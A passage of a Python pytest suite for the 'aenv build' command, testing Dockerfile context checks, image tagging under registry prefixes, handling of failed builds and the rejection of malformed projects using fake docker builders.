COPY . /app
"""


def test_a_dockerfile_for_another_context_exits_2_before_any_build(
    project: Path, tmp_path: Path
) -> None:
    # the Dockerfile an older `aenv init` wrote: its sources are not in the context
    (project / "Dockerfile").write_text(OLD_DOCKERFILE)
    record = tmp_path / "argv.json"
    fake_builder(tmp_path / "bin", record)
    result = aenv("build", str(project), PATH=str(tmp_path / "bin"))
    assert result.returncode == 2, result.stdout + result.stderr
    [line] = error_lines(result)
    context = (project / "dist" / "image").as_posix()
    assert line.startswith(
        f"aenv: error: the image's Dockerfile copies what its context {context} does not hold "
        "(line 3: `requirements.txt`); the context holds Dockerfile, env/ "
    )
    assert line.endswith("the bundle is written")
    assert not record.exists()  # no build was attempted
    assert (project / "dist" / "demo-1.0.0.aenv.tgz").is_file()
    # the same Dockerfile with no builder on PATH: the same line, before "build it elsewhere"
    nowhere = aenv("build", str(project), PATH=str(tmp_path / "none"))
    assert nowhere.returncode == 2
    assert error_lines(nowhere) == [line]
    # --no-image builds nothing, so checks nothing
    assert aenv("build", str(project), "--no-image", PATH=str(tmp_path / "bin")).returncode == 0


def test_a_built_in_environment_gets_a_complete_context(tmp_path: Path) -> None:
    builtin = Path(__file__).resolve().parent.parent / "builtin_envs" / "mini_terminal"
    record = tmp_path / "argv.json"
    fake_builder(tmp_path / "bin", record)
    out = tmp_path / "mt"
    result = aenv("build", str(builtin), "--out", str(out), PATH=str(tmp_path / "bin"))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "built image mini-terminal:1.0.0" in result.stdout
    # it has no Dockerfile of its own: one is written for its bundle
    assert "(written for the bundle: the project has no ./Dockerfile)" in result.stdout
    seen = json.loads(record.read_text())
    assert seen["installed"] == [f"aenv_ray-{__version__}-py3-none-any.whl"]
    dockerfile = (out / "image" / "Dockerfile").read_text()
    assert dockerfile.startswith("# mini-terminal@1.0.0, bundle sha256:")
    assert (out / "image" / "env" / "src" / "mini_terminal.py").is_file()
    assert not (builtin / "dist").exists()


def test_build_replaces_only_a_context_it_wrote(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out / "image").mkdir(parents=True)
    (out / "image" / "mine.txt").write_text("not aenv's")
    result = aenv("build", str(project), "--out", str(out), "--no-image")
    assert result.returncode == 2
    assert error_lines(result) == [
        f"aenv: error: {out / 'image'} exists and was not written by `aenv build`; remove it, "
        "or pass another --out"
    ]
    assert (out / "image" / "mine.txt").read_text() == "not aenv's"
    # an older aenv build's out/Dockerfile (it installed aenv-ray by name) is removed
    (out / "image" / "mine.txt").unlink()
    old = "# demo@1.0.0, bundle sha256:00\n# Written by `aenv build`; build it in a directory "
    (out / "Dockerfile").write_text(old + "holding the bundle's files.\nFROM python:3.11-slim\n")
    assert aenv("build", str(project), "--out", str(out), "--no-image").returncode == 0
    assert not (out / "Dockerfile").exists()
    assert (out / "image" / "Dockerfile").is_file()


def test_build_tags_below_the_image_prefix(project: Path, tmp_path: Path) -> None:
    config = json.loads((project / "config.json").read_text())
    config["deployConfig"]["imagePrefix"] = "reg.example/team"
    (project / "config.json").write_text(json.dumps(config))
    record = tmp_path / "argv.json"
    fake_builder(tmp_path / "bin", record)
    result = aenv("build", str(project), PATH=str(tmp_path / "bin"))
    assert result.returncode == 0, result.stderr
    assert json.loads(record.read_text())["argv"][2] == "reg.example/team/demo:1.0.0"
    expected = "  image       reg.example/team/demo:1.0.0 (the Kubernetes engine runs it: "
    assert expected + "deployConfig.imagePrefix)" in result.stdout.splitlines()


def test_build_prints_the_image_the_kubernetes_engine_expects(project: Path) -> None:
    def image_line(**env: str) -> str:
        result = aenv("build", str(project), "--no-image", **env)
        assert result.returncode == 0, result.stderr
        lines = [line for line in result.stdout.splitlines() if line.startswith("  image ")]
        assert len(lines) == 1, result.stdout
        return lines[0].split(None, 1)[1]

    below = image_line(AENV_K8S_IMAGE_PREFIX="registry.local/aenv/")
    assert (
        below
        == "registry.local/aenv/demo:1.0.0 (the Kubernetes engine runs it: AENV_K8S_IMAGE_PREFIX)"
    )
    config = json.loads((project / "config.json").read_text())
    config["artifacts"] = [{"type": "image", "content": "registry.local/custom/demo@sha256:ab"}]
    (project / "config.json").write_text(json.dumps(config))
    named = image_line(AENV_K8S_IMAGE_PREFIX="registry.local/aenv/")
    assert (
        named == "registry.local/custom/demo@sha256:ab (the Kubernetes engine runs it: artifacts)"
    )


def test_a_failed_image_build_exits_1_with_the_builders_last_lines(
    project: Path, tmp_path: Path
) -> None:
    fake_builder(tmp_path / "bin", tmp_path / "argv.json", code=3, last="no space left on device")
    result = aenv("build", str(project), PATH=str(tmp_path / "bin"))
    assert result.returncode == 1
    assert "docker: no space left on device" in result.stderr
    errors = [line for line in error_lines(result) if line.startswith("aenv: error:")]
    assert len(errors) == 1
    assert "exit code 3" in errors[0]
    assert "no space left on device" in errors[0]
    assert (project / "dist" / "demo-1.0.0.aenv.tgz").is_file()  # the bundle is still written


def test_build_without_config_json_exits_2_with_one_line(tmp_path: Path) -> None:
    result = aenv("build", str(tmp_path), PATH=str(tmp_path / "none"))
    assert result.returncode == 2
    lines = error_lines(result)
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("aenv: error: no config.json")
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "dist").exists()


BAD_PROJECTS: dict[str, Callable[[Path], object]] = {
    "symlink": lambda root: (root / "src" / "x.py").symlink_to(root / "src" / "demo.py"),
    "missing requirement": lambda root: (root / "requirements.txt").write_text("nope-aenv-x\n"),
    "bad base image": lambda root: (root / "config.json").write_text(
        json.dumps({"name": "demo", "buildConfig": {"baseImage": "x y"}})
    ),
}


@pytest.mark.parametrize("case", sorted(BAD_PROJECTS))
def test_build_of_a_bad_project_exits_2_with_one_line(case: str, project: Path) -> None:
    BAD_PROJECTS[case](project)
    result = aenv("build", str(project), "--no-image")
    assert result.returncode == 2, result
    lines = error_lines(result)
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("aenv: error: ")
    assert not (project / "dist").exists()
